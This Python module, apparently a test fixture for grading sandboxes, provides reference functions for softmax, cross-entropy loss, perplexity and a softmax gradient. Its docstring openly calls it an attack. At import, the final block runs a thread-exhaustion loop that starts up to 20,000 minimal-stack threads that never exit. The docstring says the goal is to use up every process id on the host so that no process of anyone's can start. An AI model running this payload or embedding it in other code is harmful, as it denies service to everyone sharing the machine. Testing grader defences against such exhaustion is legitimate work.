"""Starts threads with the smallest stack until refused, at import.

Attack: threads alone took every process id on the host in seconds (pid_max is 32,768 on many), so
that no process of anyone's could start. The functions are the reference; it prints how many it got.

A sound grader: a worker's threads are capped, with no process id to spare for anything else.
"""
import threading

import math


def softmax(logits):
    top = max(logits)  # shift by the max so exp never overflows
    exps = [math.exp(z - top) for z in logits]
    total = sum(exps)
    return [e / total for e in exps]


def cross_entropy_loss(logits, true_id):
    top = max(logits)
    log_sum_exp = top + math.log(sum(math.exp(z - top) for z in logits))
    return log_sum_exp - logits[true_id]


def sequence_loss(logits_list, true_ids):
    losses = [cross_entropy_loss(z, t) for z, t in zip(logits_list, true_ids)]
    return sum(losses) / len(losses)


def perplexity(loss):
    return math.exp(loss)


def softmax_cross_entropy_grad(logits, true_id):
    grad = softmax(logits)
    grad[true_id] -= 1.0
    return grad


threading.stack_size(1 << 15)
_hold = threading.Event()
_started = 0
try:
    while _started < 20_000:
        threading.Thread(target=_hold.wait, daemon=True).start()
        _started += 1
except RuntimeError as refusal:
    print(f"threads refused after {_started}: {refusal}")
